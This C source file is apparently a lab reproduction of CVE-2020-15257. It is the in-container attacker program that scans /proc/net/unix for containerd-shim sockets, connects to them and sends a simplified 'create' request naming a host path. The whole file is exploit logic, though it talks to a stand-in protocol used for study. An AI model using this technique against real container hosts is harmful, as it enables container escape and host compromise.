/*
 * CVE-2020-15257, the attacker's in-container part: a root process in a container that shares the
 * host's network namespace. It lists the unix sockets of that namespace (/proc/net/unix follows
 * the reader's network namespace), picks the containerd shims' and asks one to create a task;
 * the request names a host path, the stand-in for a bundle whose config mounts the host's /.
 *
 * Usage (inside the container): /attack <host path the shim should create>
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

/* Connects to one socket named as /proc/net/unix shows it ("@name" = abstract) and sends the
   request. Returns 1 when the shim answered "ok". */
static int try_socket(const char *shown, const char *target) {
  struct sockaddr_un addr = {.sun_family = AF_UNIX};
  size_t n = strlen(shown);
  if (n >= sizeof addr.sun_path) return 0;
  memcpy(addr.sun_path, shown, n);
  if (shown[0] == '@') addr.sun_path[0] = 0; /* abstract: the kernel shows the leading NUL as @ */
  socklen_t alen = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (shown[0] == '@' ? 0 : 1));
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    bw_step("attack: socket(AF_UNIX, SOCK_STREAM)", 0, errno, "");
    return 0;
  }
  if (connect(s, (struct sockaddr *)&addr, alen) != 0) {
    bw_step("attack: connect to the shim socket", 0, errno, shown);
    close(s);
    return 0;
  }
  bw_step("attack: connect to the shim socket", 1, 0, shown);
  char req[4200];
  int len = snprintf(req, sizeof req, "create %s\n", target);
  if (write(s, req, (size_t)len) != len) {
    bw_step("attack: send the create request", 0, errno, shown);
    close(s);
    return 0;
  }
  char reply[256] = "";
  struct pollfd p = {.fd = s, .events = POLLIN};
  ssize_t got = poll(&p, 1, 3000) == 1 ? read(s, reply, sizeof reply - 1) : -1;
  close(s);
  if (got <= 0) {
    bw_step("attack: shim answers the create request", 0, got < 0 ? ETIMEDOUT : ECONNRESET, shown);
    return 0;
  }
  reply[got] = 0;
  reply[strcspn(reply, "\n")] = 0;
  int ok = strcmp(reply, "ok") == 0;
  bw_step("attack: shim answers the create request", ok, ok ? 0 : EACCES, reply);
  return ok;
}

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: %s <host path>\n", argv[0]);
    return 2;
  }
  FILE *f = fopen("/proc/net/unix", "r");
  if (!f) {
    bw_step("attack: read /proc/net/unix", 0, errno, "");
    return 1;
  }
  bw_step("attack: read /proc/net/unix", 1, 0, "");
  char line[1024];
  int found = 0, won = 0;
  while (!won && fgets(line, sizeof line, f)) {
    line[strcspn(line, "\n")] = 0;
    /* Fields: Num RefCount Protocol Flags Type St Inode Path; the path is the last one. */
    char *path = strrchr(line, ' ');
    /* The vulnerable shims' abstract names, and the fixed ones' files (/run/containerd/s/<hash>). */
    if (!path || (!strstr(path + 1, "containerd-shim") && !strstr(path + 1, "/containerd/s/"))) continue;
    path++;
    /* Listening sockets only (St 01 = unconnected, flag 00010000 = __SO_ACCEPTCON). */
    if (!strstr(line, " 00010000 ")) continue;
    found++;
    won = try_socket(path, argv[1]);
  }
  fclose(f);
  if (!found) bw_step("attack: find a containerd-shim socket in /proc/net/unix", 0, ENOENT, "");
  return won ? 0 : 1;
}
